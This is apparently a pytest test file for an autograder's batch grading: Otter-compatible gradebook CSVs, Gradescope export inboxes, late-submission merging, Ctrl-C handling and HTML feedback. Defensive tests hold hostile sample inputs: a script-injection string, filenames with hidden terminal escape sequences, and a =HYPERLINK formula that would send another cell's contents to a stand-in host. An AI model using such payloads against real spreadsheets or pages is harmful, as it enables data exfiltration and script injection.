"""A real inbox and Otter's exact gradebook: folders of zips, Gradescope exports, merging into
an existing gradebook, Ctrl-C, feedback reports, and final_grades.csv byte for byte as Otter
writes it."""

from __future__ import annotations

import csv
import html.parser
import json
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from autograder.grading.batch import grade_batch
from autograder.grading.inbox import InboxError, expand
from autograder.grading.launcher import ChildLauncher

pytestmark = pytest.mark.exclusive  # time limits and load: see tests/conftest.py

AID = "relu_ops"


def _sub(tmp: Path, name: str, text: str) -> Path:
    d = tmp / name
    d.mkdir(parents=True)
    (d / f"{AID}.py").write_text(text)
    return d


def _zip(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(f"{AID}.py", text)
    return path


@pytest.fixture(scope="module")
def texts(repo):
    from autograder.authoring.mutants import mutants_for

    sol = (repo / "solutions" / AID / f"{AID}.py").read_text()
    m = mutants_for(AID)[0]
    return {
        "solution": sol,
        "stub": (repo / "assignments" / AID / f"{AID}.py").read_text(),
        "wrong": sol.replace(m.old, m.new),
    }


@pytest.fixture(scope="module")
def launcher():
    with ChildLauncher() as one:
        yield one


@pytest.fixture(scope="module")
def otter_batch(tmp_path_factory, texts, suites, launcher):
    tmp = tmp_path_factory.mktemp("otter")
    subs = [
        _sub(tmp, "b_solution", texts["solution"]),
        _sub(tmp, "a_stub", texts["stub"]),
        _sub(tmp, "c_wrong", texts["wrong"]),
        _zip(tmp / "d_corrupt.zip", "x"),
    ]
    (tmp / "d_corrupt.zip").write_bytes(b"PK\x03\x04 truncated")
    out = tmp / "out"
    results = grade_batch(subs, suites[AID], out, launcher=launcher, canary=False)
    return results, out


def _otter_csv(results, suite) -> str:
    """What Otter's own gradebook writer makes of the same outcomes."""
    from otter.grade.utils import merge_scores_to_df
    from otter.test_files import GradingResults
    from otter.test_files.abstract_test import TestCase, TestCaseResult
    from otter.test_files.exception_test import ExceptionTestFile

    graded = []
    for r in results:
        if r.status.startswith("refused"):
            gr = GradingResults.without_results(RuntimeError(r.status))
        else:
            files = []
            for g in sorted(suite.spec.groups, key=lambda g: g.name):
                cases = [
                    (TestCase(o.name, None, o.hidden, o.points, None, None), o.passed)
                    for o in r.outcomes
                    if o.group == g.name
                ]
                tf = ExceptionTestFile(
                    g.name, f"tests/{g.name}.py", [c for c, _ in cases], all_or_nothing=False
                )
                tf.test_case_results = [TestCaseResult(c, "", p) for c, p in cases]
                files.append(tf)
            gr = GradingResults(files)
        gr.file = r.label
        graded.append(gr)
    return merge_scores_to_df(graded).to_csv(index=False)


def test_final_grades_csv_is_byte_for_byte_what_otter_writes(otter_batch, suites):
    results, out = otter_batch
    ours = (out / "final_grades.csv").read_text()
    assert ours == _otter_csv(results, suites[AID])
    rows = list(csv.DictReader(ours.splitlines()))
    assert rows[0]["file"] == "points-per-question" and rows[0]["grading_status"] == "--"
    assert [r["file"] for r in rows[1:]] == ["a_stub", "b_solution", "c_wrong", "d_corrupt.zip"]
    assert float(rows[2]["percent_correct"]) == 1.0 and rows[2]["grading_status"] == "Completed"
    assert rows[4]["grading_status"].startswith("refused: not a readable zip")


def test_check_detail_csv_and_results_json_rows(otter_batch, suites):
    results, out = otter_batch
    detail = list(csv.DictReader((out / "check_scores.csv").read_text().splitlines()))
    assert len(detail) == len(results) * len(suites[AID].checks)
    assert {d["visibility"] for d in detail} == {"public", "hidden"}
    gs = json.loads((out / "results" / "c_wrong.json").read_text())
    names = [t["name"] for t in gs["tests"]]
    assert names == ["Public Tests", *(g.name for g in suites[AID].spec.groups)]
    groups = [t for t in gs["tests"] if t["name"] != "Public Tests"]
    assert all(t["visibility"] == "after_published" and t["output"] for t in groups)
    failing_hidden = [o for o in results[2].outcomes if o.hidden and not o.passed]
    assert failing_hidden and any(failing_hidden[0].message[:40] in t["output"] for t in groups)
    assert sum(t["score"] for t in groups) == pytest.approx(results[2].total)


def test_a_folder_of_zips_and_a_gradescope_export_are_inboxes(tmp_path, texts, suites, launcher):
    zips = tmp_path / "zips"
    _zip(zips / "alice.zip", texts["solution"])
    _zip(zips / "bob.zip", texts["stub"])
    export = tmp_path / "export"
    _sub(export, "submission_101", texts["solution"])
    _sub(export, "submission_102", texts["wrong"])
    (export / "submission_metadata.yml").write_text(
        "submission_101:\n  :submitters:\n  - :name: Ada Lovelace\n    :sid: '101'\n    :email: "
        "ada@example.org\n"
        "  :created_at: 2026-11-30 10:00:00.000000000 +00:00\n"
        "submission_102:\n  :submitters:\n  - :name: Alan Turing\n    :sid: '102'\n    :email: "
        "alan@example.org\n"
    )
    entries = expand([zips, export])
    assert [e.label for e in entries] == [
        "alice.zip",
        "bob.zip",
        "submission_101",
        "submission_102",
    ]
    results = grade_batch(
        [zips, export], suites[AID], tmp_path / "out", launcher=launcher, canary=False
    )
    by = {r.label: r for r in results}
    assert by["alice.zip"].total == by["alice.zip"].possible and by["bob.zip"].total == 0
    assert (by["submission_101"].name, by["submission_101"].sid) == ("Ada Lovelace", "101")
    roster = list(
        csv.DictReader((tmp_path / "out" / "scores_by_student.csv").read_text().splitlines())
    )
    assert [(r["name"], r["sid"], r["email"]) for r in roster if r["name"]] == [
        ("Ada Lovelace", "101", "ada@example.org"),
        ("Alan Turing", "102", "alan@example.org"),
    ]
    files = [
        r["file"]
        for r in csv.DictReader((tmp_path / "out" / "final_grades.csv").read_text().splitlines())
    ]
    assert "submission_metadata.yml" not in files


def test_a_missing_path_is_an_error_before_any_grading(tmp_path, repo):
    with pytest.raises(InboxError, match="no such file or folder"):
        expand([tmp_path / "nope"])
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "autograder.cli",
            "grade",
            str(tmp_path / "nope"),
            "--assignment",
            AID,
            "--out",
            str(tmp_path / "out"),
        ],
        capture_output=True,
        text=True,
        cwd=repo,
    )
    assert (
        proc.returncode == 2
        and "no such file or folder" in proc.stderr
        and "Traceback" not in proc.stderr
    )
    assert not (tmp_path / "out").exists()


def test_a_late_submission_merges_into_the_gradebook(tmp_path, texts, suites, launcher, capsys):
    out = tmp_path / "out"
    a, b = _sub(tmp_path, "alice", texts["solution"]), _sub(tmp_path, "bob", texts["stub"])
    grade_batch([a, b], suites[AID], out, launcher=launcher, canary=False)
    late = _sub(tmp_path / "late", "carol", texts["wrong"])
    capsys.readouterr()
    grade_batch([late], suites[AID], out, launcher=launcher, canary=False)
    assert "1 row(s) graded now, 2 kept from earlier runs" in " ".join(
        capsys.readouterr().out.split()
    )
    rows = list(csv.DictReader((out / "final_grades.csv").read_text().splitlines()))
    assert [r["file"] for r in rows[1:]] == ["alice", "bob", "carol"]
    assert sorted(p.name for p in (out / "results").iterdir()) == [
        "alice.json",
        "bob.json",
        "carol.json",
    ]
    (b / f"{AID}.py").write_text(texts["solution"])  # bob resubmits: his row is replaced
    grade_batch([b], suites[AID], out, launcher=launcher, canary=False)
    rows = {
        r["file"]: r for r in csv.DictReader((out / "final_grades.csv").read_text().splitlines())
    }
    assert float(rows["bob"]["percent_correct"]) == 1.0 and len(rows) == 4


class _Rows(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.checks: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "tr" and ("class", "check") in attrs:
            self.checks.append(dict(attrs)["data-check"] or "")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_feedback_reports_every_check_escaped(tmp_path, texts, suites, launcher):
    loud = texts["stub"] + "\nraise RuntimeError('<script>alert(1)</script> & more')\n"
    subs = [_sub(tmp_path, "alice", texts["wrong"]), _sub(tmp_path, "mallory", loud)]
    grade_batch(subs, suites[AID], tmp_path / "out", launcher=launcher, canary=False, feedback=True)
    for name in ("alice", "mallory"):
        page = (tmp_path / "out" / "feedback" / f"{name}.html").read_text()
        parser = _Rows()
        parser.feed(page)
        assert parser.checks == [c.name for c in suites[AID].checks]
        assert "<script>" not in page
    text = " ".join(parser.text)
    assert "<script>alert(1)</script> & more" in text  # shown as text, never run


SLOW = "\nimport time as _t\n_t.sleep(30)\n"


def test_ctrl_c_stops_quickly_keeps_finished_results_and_exits_130(tmp_path, texts, repo):
    subs = [
        _sub(tmp_path, "a_done", texts["stub"]),
        _sub(tmp_path, "b_slow", texts["stub"] + SLOW),
        _sub(tmp_path, "c_slow", texts["stub"] + SLOW),
    ]
    out = tmp_path / "out"
    cmd = [
        sys.executable,
        "-m",
        "autograder.cli",
        "grade",
        *map(str, subs),
        "--assignment",
        AID,
        "--out",
        str(out),
        "--jobs",
        "1",
        "--no-canary",
    ]
    proc = subprocess.Popen(
        cmd, cwd=repo, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:  # a_done is graded; b_slow sleeps in its import child
        state = out / "gradebook.json"
        if (out / ".cache").is_dir() and any((out / ".cache").glob("*.json")):
            break
        time.sleep(0.2)
    time.sleep(1.0)
    sent = time.monotonic()
    proc.send_signal(signal.SIGINT)
    stdout, stderr = proc.communicate(timeout=30)
    took = time.monotonic() - sent
    assert proc.returncode == 130, stdout[-2000:] + stderr[-2000:]
    # b_slow's import child would sleep for a minute: stopping at once, not at its end, is the
    # point (5 s leaves room for a loaded 2-core machine: 2.04 s was seen with the suite running)
    assert took < 5.0, f"Ctrl-C took {took:.1f}s"
    assert "Traceback" not in stderr
    rows = list(csv.DictReader((out / "final_grades.csv").read_text().splitlines()))
    assert [r["file"] for r in rows[1:]] == ["a_done"]
    assert state.is_file()
    leftover = [p for p in Path("/proc").glob("[0-9]*") if "b_slow" in _cmdline(p)]
    assert not leftover


def _cmdline(proc: Path) -> str:
    try:
        return (proc / "cmdline").read_bytes().decode(errors="replace")
    except OSError:
        return ""


def test_a_crafted_name_never_takes_another_submissions_label_or_row(tmp_path):
    """A name that cleaning changes (an escape sequence hidden in it) or that copies a ``~n``
    label sorts wherever it likes: the submission whose name was already clean keeps its own
    label, and every label stays unique (results are merged by label, so a clash lost a row)."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    names = ["carol\x1b[m.zip", "carol.zip", "dave\x1b[m.zip", "dave.zip", "dave.zip~2\x1b].zip"]
    for name in names:
        (inbox / name).write_bytes(b"")
    entries = expand([inbox])
    by_path = {e.path.name: e.label for e in entries}
    assert by_path["carol.zip"] == "carol.zip" and by_path["dave.zip"] == "dave.zip"
    assert len({e.label for e in entries}) == len(names)
    assert by_path["carol\x1b[m.zip"] == "carol.zip~2"
    again = expand([inbox, inbox / "carol.zip"])  # a second copy of a clean name
    assert again[-1].label not in {e.label for e in again[:-1]}


def test_no_two_rows_share_a_results_or_feedback_file(tmp_path, suites):
    """``alice``, ``alice.zzz``, ``Alice`` and ``alice.zip~2`` clean to one file stem: each row
    still gets its own results JSON and feedback page, with its own status."""
    import io

    from rich.console import Console

    from autograder.grading.batch import _write_outputs
    from autograder.grading.gradebook import result_stems
    from autograder.grading.results import SubmissionResult

    labels = ["alice", "alice.zzz", "Alice", "alice.zip~2"]
    stems = result_stems(labels)
    assert len({s.casefold() for s in stems.values()}) == len(labels)
    assert stems["Alice"] == "Alice" and stems["alice"] == "alice-2"  # case-blind: both own it
    assert stems["alice.zip~2"] == "alice-3" and stems["alice.zzz"] == "alice-4"
    rows = [SubmissionResult(label, AID, status=f"refused: {label} is odd") for label in labels]
    out = tmp_path / "out"
    _write_outputs(rows, suites[AID], out, Console(file=io.StringIO()), feedback=True, plots=False)
    outputs = {json.loads(p.read_text())["output"] for p in (out / "results").glob("*.json")}
    assert outputs == {f"refused: {label} is odd" for label in labels}
    assert len(list((out / "feedback").glob("*.html"))) == len(labels)


def test_a_formula_in_a_name_is_text_in_every_csv(tmp_path):
    """A spreadsheet runs a cell that starts with ``= + - @`` (``=HYPERLINK`` can carry other
    rows off-site): names, SIDs, emails, file labels and messages are written with a ``'``."""
    from autograder.grading import gradebook
    from autograder.grading.results import CheckOutcome, SubmissionResult

    outcome = CheckOutcome(
        name="forward",
        group="forward",
        hidden=False,
        points=1.0,
        passed=False,
        message="-1 is not 0",
    )
    r = SubmissionResult(
        "=1+1",
        AID,
        outcomes=[outcome],
        name='=HYPERLINK("http://x.example/?"&B3,"a")',
        sid="+2",
        email="@evil",
        status="graded",
    )
    gradebook.write_roster_csv([r], tmp_path / "roster.csv")
    gradebook.write_check_csv([r], tmp_path / "checks.csv")
    for path in (tmp_path / "roster.csv", tmp_path / "checks.csv"):
        for row in csv.DictReader(path.read_text().splitlines()):
            for key in ("name", "sid", "email", "file", "message"):
                if key in row:
                    assert row[key][:1] not in "=+-@", (path.name, key, row[key])
    assert gradebook.spreadsheet_safe("alice.zip") == "alice.zip"
    assert gradebook.spreadsheet_safe("=1+1") == "'=1+1"
